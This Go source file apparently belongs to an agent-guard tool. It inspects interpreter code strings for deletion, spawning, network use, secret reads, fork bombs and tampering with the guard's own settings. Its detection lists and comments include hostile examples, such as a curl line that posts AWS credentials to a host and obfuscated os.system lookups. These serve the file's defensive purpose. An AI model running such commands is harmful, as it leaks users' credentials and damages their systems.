package interp

// Reading interpreter code: markers for deletion, spawning, network,
// secrets and fork loops, and the shell strings handed to spawn calls.

import (
	"github.com/agent-guard/agent-guard/app/internal/lazyre"
	"github.com/agent-guard/agent-guard/app/judge/rules"
	"github.com/agent-guard/agent-guard/app/judge/rules/packs/creds"

	"strconv"
	"strings"

	"github.com/agent-guard/agent-guard/app/judge/shell"
)

// pkJudgeCode reads an interpreter's code string.
func pkJudgeCode(c *shell.Cmd, x *rules.Ctx, code, lang string) rules.Finding {
	low := strings.ToLower(code)
	var fs []rules.Finding
	add := func(f rules.Finding) { fs = append(fs, f) }

	// Shell commands inside spawn calls: judged as command lines.
	for _, inner := range rules.PkInnerShell(code, lang == "Ruby" || lang == "Perl" || lang == "PHP") {
		if c.Depth >= rules.PkMaxDepth {
			break
		}
		f := rules.Bash(strings.ReplaceAll(inner, shell.Dyn, "$X"), x.Cwd, x.Home)
		if f.Score() >= 1.5 || f.RedLine {
			f.Rule = lang + "/" + f.Rule
			f.Reason = "the " + lang + " code runs a shell command that " + f.Reason
			f.Marked = c.Raw
			add(f)
		}
	}

	del := rules.PkAnyOf(low, rules.PkDelMarks)
	spawn := rules.PkAnyOf(low, pkSpawnMarks)
	if d, sp, inner := pkLangMarks(lang, code, low); d != "" || sp != "" {
		if del == "" {
			del = d
		}
		if spawn == "" {
			spawn = sp
		}
		for _, in := range inner {
			if c.Depth >= rules.PkMaxDepth {
				break
			}
			if f := rules.Bash(in, x.Cwd, x.Home); f.Score() >= 1.5 || f.RedLine {
				if rules.SelfRule(f.Rule) {
					f.Marked = c.Raw
					add(f) // self-protection keeps its own id
					continue
				}
				f.Rule = lang + "/" + f.Rule
				f.Reason = "the " + lang + " code runs a shell command that " + f.Reason
				f.Marked = c.Raw
				add(f)
			}
		}
	}
	if lang == "JavaScript" && (spawn == "exec(" || spawn == "spawn(" || spawn == "eval(") && !strings.Contains(low, "child_process") {
		// regex.exec(...) and friends; child_process is matched by name.
		if strings.Contains(low, "."+spawn) && !strings.Contains(strings.ReplaceAll(low, "."+spawn, ""), spawn) {
			spawn = ""
		}
	}
	if lang == "Ruby" || lang == "Perl" || lang == "PHP" {
		if strings.Count(code, "`") >= 2 {
			spawn = "`backticks`"
		}
	}
	if lang == "Perl" && spawn == "" && (strings.Contains(low, "system ") || strings.Contains(low, "exec ")) {
		spawn = "system"
	}
	net := rules.PkAnyOf(low, pkNetMarks)
	if lang == "PHP" && spawn == "exec(" && strings.Contains(low, "curl_exec(") && !strings.Contains(strings.ReplaceAll(low, "curl_exec(", ""), "exec(") {
		spawn = ""
	}

	// Fork loops: a red line (resource exhaustion).
	if (rules.PkAnyOf(low, pkForkMarks) != "" || pkHasWord(low, "fork")) && rules.PkAnyOf(low, pkLoopMarks) != "" {
		add(rules.PkF(c, 3, 0.95, "res.fork-loop", "the "+lang+" code forks in a loop (fork bomb)"))
	}
	if del != "" {
		if targets, ok := rules.PkLiteralDeletes(code, low); ok && c.Depth < rules.PkMaxDepth {
			// Every delete call names its path as a literal: the code is
			// at least as risky as rm of those paths (rmtree('/home/dev')
			// is the home folder). A one-liner that deletes stays at least
			// a question (the generic finding below), as the design asks.
			q := make([]string, len(targets))
			for i, t := range targets {
				q[i] = rules.PkShQuote(t)
			}
			f := rules.BashOn("rm -rf -- "+strings.Join(q, " "), x.Cwd, x.Home, x.M.Deeper())
			f.Rule = lang + "/" + f.Rule
			f.Reason = "the " + lang + " code deletes " + strings.Join(targets, ", ") + ": " + f.Reason
			f.Marked = c.Raw
			add(f)
		}
		if root := rules.PkAnyOf(low, pkRootMarks); root != "" {
			add(rules.PkF(c, 3, 0.8, "interp.delete-root", "the "+lang+" code deletes files ("+del+") under the home or root folder ("+root+")"))
		} else {
			add(rules.PkF(c, 2, 0.3, "interp.delete", "the "+lang+" code deletes files ("+del+")"))
		}
	}
	if spawn == "" && lang == "Python" && pkObfuscatedCall(low) {
		// getattr(os, 'sys'+'tem'), __import__('o'+'s'): a name built at
		// run time hides which function is called.
		spawn = "a function name built at run time"
	}
	if spawn != "" {
		add(rules.PkF(c, 2, 0.3, "interp.spawn", "the "+lang+" code runs other programs or dynamic code ("+spawn+")"))
	}
	if strings.Contains(low, "os.kill") || strings.Contains(low, "process.kill") || strings.Contains(low, "posix_kill") || strings.Contains(low, "process.kill(") {
		add(rules.PkF(c, 2, 0.2, "interp.kill", "the "+lang+" code kills processes"))
	}
	// Secrets in the code, alone or with the network.
	secret := ""
	for _, w := range rules.PkRawWords(strings.NewReplacer("=", " ", "+", " ", ":", " ").Replace(code)) {
		if k, what := rules.PkSecretPath(w, x); k == rules.PkStrong {
			secret = what
			break
		}
	}
	if secret == "" {
		if m := rules.PkAnyOf(low, pkEnvMarks); m != "" {
			secret = "the whole environment"
		}
	}
	if secret == "" {
		// os.environ['AWS_SECRET_ACCESS_KEY'], process.env.GITHUB_TOKEN,
		// os.getenv("OPENAI_API_KEY"): one secret variable read by name,
		// what $GITHUB_TOKEN is to curl.
		var hosts []string
		for _, m := range pkCodeURLHost.FindAllStringSubmatch(code, 16) {
			hosts = append(hosts, strings.ToLower(m[1]))
		}
		for _, m := range pkEnvVarRead.FindAllStringSubmatch(code, 16) {
			if rules.PkSecretVar(m[1]) && !rules.SecretGoesHome(m[1], hosts) {
				secret = "$" + m[1]
				break
			}
		}
	}
	if secret != "" && net == "" && spawn != "" && (strings.Contains(low, "http://") || strings.Contains(low, "https://") ||
		rules.PkAnyOf(low, []string{"'curl ", "\"curl ", "'wget ", "\"wget ", "'nc ", "\"nc ", "'scp ", "\"scp ", "'rsync ", "\"rsync ", "'ncat ", "'socat "}) != "") {
		// os.system('curl -d @' + expanduser('~/.aws/credentials') + ' https://x'):
		// the code hands the secret to a program that sends it.
		net = spawn + " of a network program"
	}
	if secret != "" && (net != "" || len(creds.PkLineSenders(c, x)) > 0) {
		add(rules.PkF(c, 3, 0.95, "creds.exfil-code", "the "+lang+" code reads "+secret+" and uses the network"))
	} else if secret != "" {
		add(rules.PkF(c, 1.5, 0.5, "creds.read-code", "the "+lang+" code reads "+secret))
	}
	if net != "" {
		add(rules.PkF(c, 2, 0.3, "interp.network", "the "+lang+" code uses the network ("+net+")"))
	}
	// Writes to system files named in the code.
	if rules.PkAnyOf(low, []string{"open(", "write", "append", "file.new", "out-file", "set-content", "chmod", "chown", "rename", "replace(", "copy", "move", "symlink", "link("}) != "" {
		for _, w := range rules.PkRawWords(code) {
			lw := strings.ToLower(w)
			if strings.HasPrefix(lw, "/etc/") || strings.HasPrefix(lw, "/boot/") || strings.HasPrefix(lw, "/usr/") || strings.HasPrefix(lw, "/bin/") || strings.HasPrefix(lw, "c:\\windows") || strings.Contains(lw, ".ssh/authorized_keys") || strings.HasSuffix(lw, ".bashrc") || strings.HasSuffix(lw, ".zshrc") || strings.HasSuffix(lw, ".profile") {
				if f, ok := rules.PkWriteTarget(c, x, w, lang); ok && f.Score() >= 1.5 {
					add(f)
				}
			}
		}
	}
	// The guard's own files and the agent's hook settings, written or
	// removed from code: self-protection, the same patterns as paths.go.
	if f, ok := pkCodeTouchesGuard(c, x, code, low, del != ""); ok {
		f.Rule = lang + "/" + f.Rule
		f.Reason = "the " + lang + " code writes or removes files, and " + f.Reason
		add(f)
	}
	// Endless busy loops and huge allocations.
	endless := strings.Contains(low, "while true") || strings.Contains(low, "while 1") || strings.Contains(low, "while(1)") || strings.Contains(low, "while (1)") || strings.Contains(low, "while(true)") || strings.Contains(low, "while (true)") || strings.Contains(low, "for(;;)") || strings.Contains(low, "for (;;)") || strings.Contains(low, "loop {") || strings.Contains(low, "loop do")
	if endless && spawn != "" && !strings.Contains(low, "sleep") && pkSpawnsBackground(code, low) {
		// while(1) system("sh &"): a new process every turn, none awaited.
		add(rules.PkF(c, 3, 0.95, "res.spawn-loop", "the "+lang+" code starts background processes in an endless loop (process bomb)"))
	}
	if (strings.Contains(low, "while true") || strings.Contains(low, "while 1") || strings.Contains(low, "while(true)") || strings.Contains(low, "while (true)") || strings.Contains(low, "for(;;)") || strings.Contains(low, "for (;;)") || strings.Contains(low, "loop {") || strings.Contains(low, "loop do")) && !strings.Contains(low, "sleep") && !strings.Contains(low, "break") && !strings.Contains(low, "input(") && !strings.Contains(low, "readline") && !strings.Contains(low, "accept(") {
		add(rules.PkF(c, 1.6, 0.5, "res.busy-loop", "the "+lang+" code loops forever"))
	}
	rules.PkInitRe()
	for _, m := range rules.PkBigPowRe().FindAllStringSubmatch(low, -1) {
		if n, err := strconv.Atoi(m[1]); err == nil && (strings.HasPrefix(m[0], "**") && n >= 10 || strings.HasPrefix(m[0], "<<") && n >= 34) {
			if rules.PkAnyOf(low, []string{"]*", "] *", "'*", "' *", "\"*", "\" *", "bytearray(", "range(", "alloc", "repeat(", "buffer.", "array("}) != "" {
				add(rules.PkF(c, 2, 0.6, "res.huge-alloc", "the "+lang+" code may allocate or loop over an enormous size"))
				break
			}
		}
	}
	if len(fs) == 0 {
		return rules.PkF(c, 0, 0, "interp.code", "the "+lang+" code computes and prints; no deletion, process, network or secret access seen")
	}
	return rules.Worst(fs...)
}

// pkHasWord: w occurs in s not glued to letters or digits on either side.
func pkHasWord(s, w string) bool {
	isWord := func(b byte) bool {
		return b >= 'a' && b <= 'z' || b >= 'A' && b <= 'Z' || b >= '0' && b <= '9' || b == '_'
	}
	for i := 0; ; {
		j := strings.Index(s[i:], w)
		if j < 0 {
			return false
		}
		j += i
		if (j == 0 || !isWord(s[j-1])) && (j+len(w) >= len(s) || !isWord(s[j+len(w)])) {
			return true
		}
		i = j + 1
	}
}

// pkCodeTouchesGuard reports code that names a guard file (Protected) and
// writes, moves or removes files. Path parts joined in code
// (os.path.join(h, '.claude', 'settings.json'), Path.home() / '.claude' /
// 'settings.json') are glued back with "/" first.
func pkCodeTouchesGuard(c *shell.Cmd, x *rules.Ctx, code, low string, del bool) (rules.Finding, bool) {
	if !del && rules.PkAnyOf(low, rules.PkGuardWriteMark) == "" {
		return rules.Finding{}, false
	}
	// The script's own arguments: open(sys.argv[1], 'w') ~/.claude/settings.json.
	for _, a := range c.Args {
		if !strings.ContainsAny(a, " \t\n'\"()") && rules.PkAnyOf(strings.ToLower(a), pkGuardMarks) != "" {
			if f, ok := rules.Protected(a, x.Cwd, x.Home); ok {
				f.Marked = c.Raw
				return f, true
			}
		}
	}
	if rules.PkAnyOf(low, pkGuardMarks) == "" {
		return rules.Finding{}, false
	}
	joined := code + "\n" + pkJoinRe.ReplaceAllString(code, "/")
	for _, w := range rules.PkRawWords(strings.NewReplacer("=", " ", "+", " ", ":", " ", "$", " ").Replace(joined)) {
		lw := strings.ToLower(w)
		if rules.PkAnyOf(lw, pkGuardMarks) == "" {
			continue
		}
		if f, ok := rules.Protected(w, x.Cwd, x.Home); ok {
			f.Marked = c.Raw
			return f, true
		}
		// os.environ['APPDATA'] + '\\agent-guard\\config.json': the folder
		// before it comes from a config-folder variable at run time.
		lw = strings.TrimLeft(strings.ReplaceAll(lw, "\\", "/"), "/")
		if strings.HasPrefix(lw, "agent-guard/") && rules.PkAnyOf(low, pkConfigDirMarks) != "" {
			if f, ok := rules.Protected(shell.Dyn+"/"+lw, x.Cwd, x.Home); ok {
				f.Marked = c.Raw
				return f, true
			}
		}
	}
	return rules.Finding{}, false
}

// pkConfigDirMarks name config/state folders looked up at run time.
var pkConfigDirMarks = []string{"appdata", "xdg_config", "xdg_state", "xdg_cache", "user_config_dir", "user_data_dir", "config_home", "configdir", "getfolderpath"}

// pkSpawnsBackground: the code starts processes it does not wait for (a
// shell string ending in &, Popen, spawn without Sync, nohup).
func pkSpawnsBackground(code, low string) bool {
	for _, inner := range rules.PkInnerShell(code, false) {
		if t := strings.TrimSpace(inner); strings.HasSuffix(t, "&") || strings.Contains(t, "& ") && !strings.Contains(t, "&&") {
			return true
		}
	}
	return strings.Contains(low, "popen(") || strings.Contains(low, "nohup") || strings.Contains(low, "spawn(") && !strings.Contains(low, "spawnsync(")
}

// pkObfuscatedCall: Python code that looks a function or module up by a
// name assembled from pieces (getattr(o, 'sys'+'tem'), __import__('o'+'s'),
// globals()['ev'+'al']).
func pkObfuscatedCall(low string) bool {
	for _, m := range []string{"getattr(", "__import__(", "import_module(", "globals()[", "__builtins__", "vars(__builtins__"} {
		i := strings.Index(low, m)
		if i < 0 {
			continue
		}
		seg := low[i:]
		if j := strings.IndexByte(seg, ')'); j > 0 {
			seg = seg[:j]
		}
		if strings.Contains(seg, "'+") || strings.Contains(seg, "' +") || strings.Contains(seg, "\"+") || strings.Contains(seg, "\" +") || strings.Contains(seg, "chr(") || strings.Contains(seg, "[::-1]") || strings.Contains(seg, "decode(") || strings.Contains(seg, "join(") {
			return true
		}
	}
	return false
}

// Markers looked for in lower-cased code: spawning, the network, root and
// home paths, the whole environment, forks and loops; and the guard's own
// files, with the joins that build their names from pieces.
var (
	pkSpawnMarks = []string{"os.system", "subprocess", "os.popen", "os.exec", "os.spawn", "pty.spawn", "child_process", "execsync", "spawnsync", "execfilesync", "exec(", "spawn(", "system(", "popen", "runtime.getruntime", "processbuilder", "deno.run", "deno.command", "bun.spawn", "bun.$", "shell_exec", "passthru", "proc_open", "open3", "io.popen", "start-process", "invoke-expression", "commands.getoutput", "exec.command", "%x(", "%x{", "qx(", "qx{", "eval(", "do shell script", "kernel.`", "execa("}
	pkNetMarks   = []string{"socket", "urllib", "requests.", "import requests", "http.client", "httpx", "aiohttp", "fetch(", "http.get", "http.request", "https.get", "https.request", "axios", "net.connect", "net.createconnection", "net::http", "open-uri", "uri.open", "lwp", "io::socket", "http::tiny", "curl_init", "copy('http", "copy(\"http", "fopen('http", "fopen(\"http", "file_get_contents('http", "file_get_contents(\"http", "file_put_contents('http", "file_put_contents(\"http", "file_put_contents('ftp", "file_put_contents(\"ftp", "fsockopen", "invoke-webrequest", "net.webclient", "downloadstring", "urlopen", "websocket", "ftplib", "smtplib", "paramiko", "telnetlib", "dgram", "xmlhttprequest", "deno.connect", "net/http", "http.post", "require('http')", "require(\"http\")", "require('https')", "require(\"https\")", "require('net')", "require('dgram')", "node:http", "node:https", "node:net", "require('axios')", "require('request')", "requests.post", "httparty", "faraday", "invoke-restmethod", "node-fetch", "undici", "net.socket", "tcpsocket", "udpsocket"}
	pkRootMarks  = []string{"'/'", "\"/\"", "'~'", "\"~\"", "expanduser('~')", "expanduser(\"~\")", "path.home()", "os.homedir()", "process.env.home", ".homedir()", "environ['home']", "environ[\"home\"]", "getenv('home')", "getenv(\"home\")", "env['home']", "env[\"home\"]", "$env{home}", "$env{'home'}", "'/home'", "\"/home\"", "'/etc'", "\"/etc\"", "'/usr'", "\"/usr\"", "'/root'", "\"/root\"", "'/*'", "\"/*\"", "'c:\\\\'", "\"c:\\\\\"", "'c:/'", "\"c:/\"", "'c:\\'", "\"c:\\\"", "$home", "$env:userprofile", "'/var'", "\"/var\"", "'/boot'", "'/bin'", "\"/bin\"", "os.getenv('userprofile')", "dir.home", "'/users'", "\"/users\"",
		"deno.env.get('home')", "deno.env.get(\"home\")", "bun.env.home", "system.getproperty(\"user.home\")", "system.getproperty('user.home')", "specialfolder.userprofile", "path.expand(\"~\")", "path.expand('~')", "os.userhomedir()", "(homedir()", " homedir()", "$env(home)", "[file normalize ~]", "file home"}
	// pkEnvVarRead: an environment variable read by name in Python, Node,
	// Deno, Ruby, Perl, PHP, Java or PowerShell code; group 1 is the name.
	pkCodeURLHost = lazyre.New(`(?i)https?://([a-z0-9.-]+)`)
	pkEnvVarRead  = lazyre.New(`(?i)(?:environ(?:\.get)?\s*[\[(]\s*|getenv\s*\(\s*|process\.env\.|process\.env\[\s*|\bENV\[\s*|\bENV\.fetch\(\s*|\$ENV\{\s*|Deno\.env\.get\(\s*|\$env:|Environment\.GetEnvironmentVariable\(\s*)['"]?([A-Za-z_][A-Za-z0-9_]*)`)
	pkEnvMarks    = []string{"dict(os.environ)", "os.environ)", "os.environ.items", "os.environ.copy", "print(os.environ)", "json.dumps(os.environ", "json.stringify(process.env", "console.log(process.env)", "process.env)", "%env", "env.to_h", "env.inspect", "print %env", "getenv()", "$_server", "$_env", "object.entries(process.env", "os.environ}", "deno.env.toobject"}
	pkForkMarks   = []string{"os.fork", "fork()", "fork while fork", "fork;", "fork(", "pcntl_fork", "process.fork", "cluster.fork"}
	pkLoopMarks   = []string{"while", "for(;;)", "for (;;)", "loop", "until", "repeat", "setinterval", "1..", "each", "range(", " for ", "for(", "for (", ".times", "map("}
	pkGuardMarks  = []string{"agent-guard", ".claude", ".zcode", ".agentguardrc", "managed-settings", "agent_guard_home", ".codex", ".gemini", ".cursor", ".qwen"}
	pkJoinRe      = lazyre.New(`['"]\s*[,/+]\s*['"]`)
)

// pkLangMarks reads the delete and spawn calls of languages whose names
// are too short or too common for the shared substring tables: Julia's
// rm(path; recursive=true) and run(`cmd`), Tcl's file delete and exec.
// inner are the shell command lines the code runs (Tcl's $env(HOME) and
// Julia's homedir() read as ~).
func pkLangMarks(lang, code, low string) (del, spawn string, inner []string) {
	switch lang {
	case "julia":
		for i := strings.Index(low, "rm("); i >= 0; {
			if (i == 0 || strings.IndexByte(" \t\n;(=,", low[i-1]) >= 0) && rules.PkAnyOf(low, pkRootMarks) != "" {
				// Only of the home or root: rm(joinpath(pwd(), "build"))
				// stays the project's own cleanup (self_routes.jsonl).
				del = "rm("
				break
			}
			n := strings.Index(low[i+3:], "rm(")
			if n < 0 {
				break
			}
			i += 3 + n
		}
		if strings.Contains(low, "run(`") || strings.Contains(low, "pipeline(`") {
			spawn = "run(`...`)"
			for _, part := range strings.Split(code, "`")[1:] {
				inner = append(inner, strings.ReplaceAll(part, "$(homedir())", "~"))
				break
			}
		}
	case "tclsh", "wish", "expect":
		if strings.Contains(low, "file delete") {
			del = "file delete"
		}
		for _, line := range strings.FieldsFunc(code, func(r rune) bool { return r == '\n' || r == ';' || r == '[' || r == ']' }) {
			t := strings.TrimSpace(line)
			if rest, ok := strings.CutPrefix(t, "exec "); ok {
				spawn = "exec"
				inner = append(inner, strings.NewReplacer("$env(HOME)", "~", "$::env(HOME)", "~").Replace(rest))
			}
		}
	}
	return del, spawn, inner
}
